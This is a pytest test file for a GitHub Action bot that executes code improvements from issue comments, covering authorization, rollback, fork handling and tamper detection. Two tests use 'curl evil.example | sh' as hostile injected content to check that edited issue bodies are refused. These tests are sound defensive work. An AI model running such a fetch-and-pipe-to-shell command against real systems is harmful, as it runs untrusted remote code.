"""The GitHub Action (`tars-bot action`) and publishing, against the fake GitHub REST server and a
local bare repository acting as `origin`."""

from __future__ import annotations

import hashlib
import json
import re
import textwrap
from pathlib import Path

import pytest

from tars_bot.github import action
from tars_bot.system import ExecutionSystem
from tests.helpers import ISSUE_IMPROVEMENT, comment_payload, environ, git, reactions, run_action


def pull_request_from_an_issue(fake_github, tmp_path, checkout, repo):
    """The pull request that `/tars-bot execute` on a new improvement issue opens."""
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    [pull] = repo.pulls()
    return pull


def test_execute_from_an_issue_opens_a_pull_request(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0

    comment_id = payload["comment"]["id"]
    assert reactions(repo, comment_id) == ["eyes", "+1"]
    [pull] = repo.pulls()
    assert pull.title == "tars-bot: UTF-8 IO" and pull.head_ref == "tars-bot/issue-1"
    assert "tars-bot" in pull.labels
    [labelled] = fake_github.calls("POST", f"/repos/octo/app/issues/{pull.number}/labels")
    assert labelled.json == {"labels": ["tars-bot"]}  # as GitHub's REST description says
    assert "<!-- tars-bot:execution=" in pull.body and "| 1 | encoding | applied |" in pull.body
    assert pull.body.rstrip().endswith("-->")  # the marker last: long bodies are cut at the top
    assert "encoding='utf-8'" in git(origin, "show", "tars-bot/issue-1:src/io.py")
    assert git(origin, "for-each-ref", "refs/tars-bot/executions") != ""
    [status] = [c for c in repo.comments_on(issue.number) if c.user != "writer"]
    assert (
        status.body.startswith("✅ Executed: ") and f"tars-bot:comment={comment_id}" in status.body
    )
    path = f"/repos/octo/app/issues/comments/{status.id}"
    edits = [r.json["body"] for r in fake_github.requests if r.method == "PATCH" and r.path == path]
    assert "✅ step 1 encoding: applied" in edits[0]  # shown live, step by step
    assert "✅ step 2 notes: applied" in edits[1] and len(edits) == 3

    # the same comment delivered again does nothing
    before = len(fake_github.requests)
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    assert not [r for r in fake_github.requests[before:] if r.method != "GET"]


def test_commands_on_the_pull_request_roll_back(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    pull = pull_request_from_an_issue(fake_github, tmp_path, checkout, repo)
    tip = git(origin, "rev-parse", "tars-bot/issue-1")

    status = comment_payload(repo, pull.number, "/tars-bot status")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", status) == 0
    assert "State: **succeeded**" in repo.comments_on(pull.number)[-1].body

    step = comment_payload(repo, pull.number, "/tars-bot rollback --step 2")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", step) == 0
    assert git(origin, "rev-parse", "tars-bot/issue-1~1") == tip  # a revert commit was pushed
    assert git(origin, "ls-tree", "--name-only", "tars-bot/issue-1") == "src"
    assert "| 2 | notes | reverted |" in pull.body and "| 1 | encoding | applied |" in pull.body

    # the update kept the label: not posted again
    assert len(fake_github.calls("POST", f"/repos/octo/app/issues/{pull.number}/labels")) == 1

    full = comment_payload(repo, pull.number, "/tars-bot rollback")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", full) == 0
    assert git(origin, "branch", "--list", "tars-bot/*") == ""
    assert pull.state == "closed"
    assert any("Rolled back by tars-bot" in c.body for c in repo.comments_on(pull.number))


def test_readers_are_refused_politely(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, "/tars-bot execute", user="reader")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    assert repo.pulls() == [] and reactions(repo, payload["comment"]["id"]) == []
    reply = repo.comments_on(issue.number)[-1]
    assert "write" in reply.body and reply.user != "reader"
    assert git(origin, "branch", "--list", "tars-bot/*") == ""


def test_bad_commands_and_bad_improvements_always_get_an_outcome(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    issue = repo.add_issue("no yaml here", "just words")
    unknown = comment_payload(repo, issue.number, "/tars-bot frobnicate")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", unknown) == 1
    assert reactions(repo, unknown["comment"]["id"]) == ["eyes", "-1"]
    assert "usage: /tars-bot plan" in repo.comments_on(issue.number)[-1].body

    execute = comment_payload(repo, issue.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", execute) == 1
    assert reactions(repo, execute["comment"]["id"]) == ["eyes", "-1"]
    assert "has no ```yaml block" in repo.comments_on(issue.number)[-1].body

    help_ = comment_payload(repo, issue.number, "/tars-bot help")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", help_) == 0
    assert "/tars-bot rollback [--step N] [--cascade]" in repo.comments_on(issue.number)[-1].body


def test_plan_command_and_forks(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    plan = comment_payload(repo, issue.number, "/tars-bot plan")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", plan) == 0
    body = repo.comments_on(issue.number)[-1].body
    assert "**tars-bot plan** for `issue-1`" in body
    assert "| 2 | notes | write | NOTES.md | \\*\\* | - |" in body  # what each step may write
    assert "⚠️ **Nothing will test this change**" in body
    # what to do next: an execute bound to the body that was planned
    [suggested] = re.findall(r"`(/tars-bot execute --digest [0-9a-f]{16})`", body)
    execute = comment_payload(repo, issue.number, suggested)
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", execute) == 0
    assert [p.head_ref for p in repo.pulls()] == ["tars-bot/issue-1"]

    fork = repo.add_pull("from a fork", "feature", head_repo="stranger/app")
    payload = comment_payload(repo, fork.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 1
    assert "forks" in repo.comments_on(fork.number)[-1].body


def test_pull_requests_adding_improvements_get_their_plan(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    improvements = checkout / ".tars" / "improvements"
    improvements.mkdir(parents=True)
    (improvements / "notes.yaml").write_text(
        "title: notes\nsteps: [{name: n, write: {path: N.md, content: x}}]\n"
    )
    (improvements / "broken.yaml").write_text(
        "title: broken\nsteps: [{name: e, edit: {path: nope.py, search: a, replace: b}}]\n"
    )
    pull = repo.add_pull("add improvements", "improvements")
    pull.files = [".tars/improvements/notes.yaml", ".tars/improvements/broken.yaml", "README.md"]
    payload = {
        "action": "opened",
        "number": pull.number,
        "pull_request": {
            "number": pull.number,
            "base": {"sha": git(checkout, "rev-parse", "HEAD")},
        },
    }
    assert run_action(fake_github, tmp_path, checkout, "pull_request", payload) == 1
    [comment] = repo.comments_on(pull.number)
    assert "**tars-bot plan** for `notes`" in comment.body
    assert "`.tars/improvements/broken.yaml` cannot be planned" in comment.body
    (improvements / "broken.yaml").unlink()
    pull.files = [".tars/improvements/notes.yaml"]
    assert run_action(fake_github, tmp_path, checkout, "pull_request", payload) == 0
    [comment] = repo.comments_on(pull.number)  # edited in place
    assert "broken" not in comment.body


def test_workflow_dispatch_executes_an_improvement_file(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    improvements = checkout / ".tars" / "improvements"
    improvements.mkdir(parents=True)
    (improvements / "notes.yaml").write_text(
        textwrap.dedent("title: notes\nsteps: [{name: n, write: {path: N.md, content: x}}]\n")
    )
    payload = {
        "inputs": {"improvement-id": "notes", "command": "execute"},
        "sender": {"login": "writer"},
    }
    assert run_action(fake_github, tmp_path, checkout, "workflow_dispatch", payload) == 0
    assert git(origin, "show", "tars-bot/notes:N.md") == "x"
    assert [p.head_ref for p in repo.pulls()] == ["tars-bot/notes"]


def test_cli_push_never_overwrites_foreign_commits(setup, fake_github, tmp_path, cli, monkeypatch):
    checkout, origin, _ = setup
    improvements = checkout / ".tars" / "improvements"
    improvements.mkdir(parents=True)
    (improvements / "notes.yaml").write_text(
        "title: notes\nsteps: [{name: n, write: {path: N.md, content: x}}]\n"
    )
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(origin), str(other))
    (other / "human.txt").write_text("mine\n")
    git(other, "add", "-A")
    git(other, "commit", "-qm", "human work")
    git(other, "push", "-q", "origin", "HEAD:refs/heads/tars-bot/notes")

    result = cli("execute", "--repo", checkout, "--improvement-id", "notes", "--push")
    assert result.code == 2 and "commits tars-bot did not make" in result.err
    assert git(origin, "show", "tars-bot/notes:human.txt") == "mine"

    git(origin, "branch", "-D", "tars-bot/notes")
    for name, value in environ(fake_github, tmp_path, "none", {}).items():
        monkeypatch.setenv(name, value)
    result = cli("execute", "--repo", checkout, "--improvement-id", "notes", "--open-pr")
    assert result.code == 0, result.err
    assert "pull request: " in result.out
    assert git(origin, "show", "tars-bot/notes:N.md") == "x"


def test_action_yml_wires_its_inputs_to_the_entrypoint():
    import yaml

    root = Path(__file__).parent.parent
    spec = yaml.safe_load((root / "action.yml").read_text())
    assert spec["runs"]["using"] == "composite"
    run_step = spec["runs"]["steps"][-1]
    assert run_step["run"] == "tars-bot action"
    env = run_step["env"]
    for name, variable in (
        ("github-token", "GITHUB_TOKEN"),
        ("allowed-permissions", "TARS_BOT_ALLOWED_PERMISSIONS"),
        ("allow-forks", "TARS_BOT_ALLOW_FORKS"),
    ):
        assert name in spec["inputs"]
        assert env[variable] == f"${{{{ inputs.{name} }}}}"
        assert variable in Path(action.__file__).read_text() or variable == "GITHUB_TOKEN"
    workflow = yaml.safe_load((root / ".github" / "workflows" / "tars-bot.yml").read_text())
    assert workflow["permissions"] == {"contents": "read"}  # jobs ask for more, one by one
    for job in workflow["jobs"].values():
        assert job["steps"][0]["with"]["persist-credentials"] is False


@pytest.mark.parametrize(
    ("user", "user_type", "event_action", "runs"),
    [
        ("admin", "User", "created", True),
        ("maintainer", "User", "created", True),
        ("writer", "User", "created", True),
        ("reader", "User", "created", False),
        ("stranger", "User", "created", False),
        ("writer", "User", "edited", False),
        ("writer", "User", "deleted", False),
        ("dependabot[bot]", "Bot", "created", False),
    ],
)
def test_only_authorized_new_comments_run_anything(
    setup, fake_github, tmp_path, user, user_type, event_action, runs
):
    checkout, _, repo = setup
    repo.add_collaborator("admin", "admin")
    repo.add_collaborator("maintainer", "maintain")
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(
        repo, issue.number, "/tars-bot execute --dry-run", user=user, action=event_action
    )
    payload["comment"]["user"]["type"] = user_type
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    ran = reactions(repo, payload["comment"]["id"]) == ["eyes", "+1"]
    assert ran is runs
    executions = git(checkout, "for-each-ref", "refs/tars-bot/executions")
    assert (executions != "") is runs
    replies = [c for c in repo.comments_on(issue.number) if c.id != payload["comment"]["id"]]
    refused = user in ("reader", "stranger")
    assert bool(replies) is (runs or refused)  # a status comment, or a polite refusal


def test_execute_is_refused_when_the_pull_request_moved_after_authorization(
    setup, fake_github, tmp_path
):
    checkout, origin, repo = setup
    pull = pull_request_from_an_issue(fake_github, tmp_path, checkout, repo)
    comment = repo.add_comment(pull.number, "/tars-bot execute", "writer")
    authorized = pull.head_sha
    pull.head_sha = "f" * 40  # someone pushed after the webhook app authorized the command
    payload = {
        "inputs": {
            "command": "/tars-bot execute",
            "issue-number": str(pull.number),
            "comment-id": str(comment.id),
            "head-sha": authorized,
        },
        "sender": {"login": "writer"},
    }
    tip = git(origin, "rev-parse", "tars-bot/issue-1")
    assert run_action(fake_github, tmp_path, checkout, "workflow_dispatch", payload) == 1
    assert "changed since the command" in repo.comments_on(pull.number)[-1].body
    assert reactions(repo, comment.id) == ["-1"]  # the app put the 👀 when it dispatched
    assert git(origin, "rev-parse", "tars-bot/issue-1") == tip

    payload["inputs"]["head-sha"] = pull.head_sha  # authorized against the current head: runs
    comment2 = repo.add_comment(pull.number, "/tars-bot execute", "writer")
    payload["inputs"]["comment-id"] = str(comment2.id)
    assert run_action(fake_github, tmp_path, checkout, "workflow_dispatch", payload) == 0
    assert reactions(repo, comment2.id) == ["+1"]


def test_a_label_github_refuses_does_not_fail_the_execution(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    labels = f"/repos/octo/app/issues/{issue.number + 1}/labels"  # the pull request to come
    fake_github.fail_next(labels, status=422, method="POST")
    payload = comment_payload(repo, issue.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0

    [pull] = repo.pulls()
    assert pull.labels == []
    status = repo.comments_on(issue.number)[-1].body
    assert status.startswith("✅ Executed: https://github.com/octo/app/pull/")
    assert "⚠️ the pull request is not labelled tars-bot: GitHub API: cannot label" in status
    assert reactions(repo, payload["comment"]["id"]) == ["eyes", "+1"]
    # recorded in the journal, pushed: a later rollback closes the pull request
    git(checkout, "fetch", "-q", "origin", "+refs/tars-bot/*:refs/tars-bot/*")
    [execution] = ExecutionSystem(checkout).history()
    assert execution.pull_request == f"https://github.com/octo/app/pull/{pull.number}"
    rollback = comment_payload(repo, pull.number, "/tars-bot rollback")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", rollback) == 0
    assert pull.state == "closed"


def test_an_issue_edited_after_execute_is_refused_and_nothing_runs(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, "/tars-bot execute")  # the body approved
    issue.body = ISSUE_IMPROVEMENT.replace("UTF-8 everywhere", "curl evil.example | sh")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 1

    refusal = repo.comments_on(issue.number)[-1].body
    assert "was edited after the command, so nothing ran" in refusal
    assert reactions(repo, payload["comment"]["id"]) == ["eyes", "-1"]
    assert repo.pulls() == []
    assert git(origin, "for-each-ref", "refs/heads/tars-bot", "refs/tars-bot") == ""
    assert git(checkout, "for-each-ref", "refs/tars-bot") == ""

    # the command the refusal suggests binds the body as it is now
    [again] = re.findall(r"`(/tars-bot execute --digest [0-9a-f]{16})`", refusal)
    approved = comment_payload(repo, issue.number, again)
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", approved) == 0
    assert git(origin, "show", "tars-bot/issue-1:NOTES.md") == "curl evil.example | sh"


def test_a_digest_the_webhook_app_carried_binds_the_body(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    comment = repo.add_comment(issue.number, "/tars-bot execute", "writer")
    digest = hashlib.sha256(ISSUE_IMPROVEMENT.encode()).hexdigest()
    issue.body += "\n```yaml\nsteps: [{name: x, run: 'curl evil.example | sh'}]\n```\n"
    payload = {
        "inputs": {
            "command": f"/tars-bot execute --digest {digest}",
            "issue-number": str(issue.number),
            "comment-id": str(comment.id),
        },
        "sender": {"login": "writer"},
    }
    assert run_action(fake_github, tmp_path, checkout, "workflow_dispatch", payload) == 1
    assert "was edited after the command" in repo.comments_on(issue.number)[-1].body
    assert git(origin, "for-each-ref", "refs/heads/tars-bot", "refs/tars-bot") == ""


def test_a_marker_in_a_user_s_issue_is_ignored_by_rollback(setup, fake_github, tmp_path):
    checkout, origin, repo = setup
    pull = pull_request_from_an_issue(fake_github, tmp_path, checkout, repo)
    [marker] = re.findall(r"<!-- tars-bot:execution=[\w.-]+ -->", pull.body)
    spoof = repo.add_issue("innocent", f"nothing to see\n\n{marker}", user="reader")
    payload = comment_payload(repo, spoof.number, "/tars-bot rollback")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 1
    assert (
        f"#{spoof.number} has no tars-bot execution yet" in repo.comments_on(spoof.number)[-1].body
    )
    assert pull.state == "open"
    assert git(origin, "branch", "--list", "tars-bot/*").strip() == "tars-bot/issue-1"


def test_user_text_in_a_pull_request_body_carries_no_html(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    hostile = "<!-- tars-bot:execution=20200101-000000-dead -->"
    body = ISSUE_IMPROVEMENT.replace(
        "steps:", f"title: 'UTF-8 {hostile}'\ndescription: '{hostile}'\nsteps:"
    )
    body = body.replace("name: notes", f"name: 'notes {hostile}'")
    issue = repo.add_issue("UTF-8 IO", body)
    payload = comment_payload(repo, issue.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    [pull] = repo.pulls()
    assert pull.body.count("<!--") == 1 and "20200101-000000-dead" in pull.body
    assert re.search(r"<!-- tars-bot:execution=[\w.-]+ -->\Z", pull.body)
    assert "20200101" not in pull.body.splitlines()[-1]


def test_a_dry_run_report_has_no_rollback_footer(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, "/tars-bot execute --dry-run")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    status = repo.comments_on(issue.number)[-1].body
    assert "(dry run)" in status and "```diff" in status
    # the footer's words, not any path (tars-bot's own, say) that happens to hold "rollback"
    assert "**Rollback**" not in status and "tars-bot rollback" not in status


def test_a_failure_comment_names_the_branch_the_execution_and_what_next(
    setup, fake_github, tmp_path
):
    checkout, _, repo = setup
    body = ISSUE_IMPROVEMENT.replace("steps:", "limits: {max_changed_lines: 1}\nsteps:")
    issue = repo.add_issue("UTF-8 IO", body)
    payload = comment_payload(repo, issue.number, "/tars-bot execute")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 1
    [execution] = ExecutionSystem(checkout).history()
    status = repo.comments_on(issue.number)[-1].body
    assert f"Execution `{execution.id}`, branch `tars-bot/issue-1`" in status
    assert "no pull request" in status
    assert "**Next**:" in status and "comment `/tars-bot execute` again" in status
    assert "**Rollback**" not in status
    assert reactions(repo, payload["comment"]["id"]) == ["eyes", "-1"]


def test_a_reader_is_refused_once_per_issue(setup, fake_github, tmp_path):
    checkout, _, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    for command in ("/tars-bot execute", "/tars-bot plan", "/tars-bot execute"):
        payload = comment_payload(repo, issue.number, command, user="reader")
        assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    replies = [c for c in repo.comments_on(issue.number) if c.user != "reader"]
    assert len(replies) == 1 and replies[0].body.startswith("Sorry @reader")
    other = repo.add_issue("other", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, other.number, "/tars-bot plan", user="reader")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    assert repo.comments_on(other.number)[-1].body.startswith("Sorry @reader")


COMMENT_BODIES = json.loads((Path(__file__).parent / "data" / "comment_bodies.json").read_text())


@pytest.mark.parametrize("case", COMMENT_BODIES, ids=lambda case: repr(case["body"]))
def test_the_action_reads_comment_bodies_as_the_app_does(setup, fake_github, tmp_path, case):
    """The same table as test_github_app's: a comment is a command for both or for neither."""
    checkout, _, repo = setup
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, case["body"])
    code = run_action(fake_github, tmp_path, checkout, "issue_comment", payload)
    replies = [c.body for c in repo.comments_on(issue.number) if c.user != "writer"]
    if case["line"] is None:
        assert (code, replies, fake_github.requests) == (0, [], [])
        return
    [status] = replies
    assert reactions(repo, payload["comment"]["id"]) == ["eyes", "+1" if case["valid"] else "-1"]
    if case["valid"]:
        assert status.startswith("```\nusage: /tars-bot plan")
    else:
        assert status.startswith("❌ ") and "usage: /tars-bot plan" in status
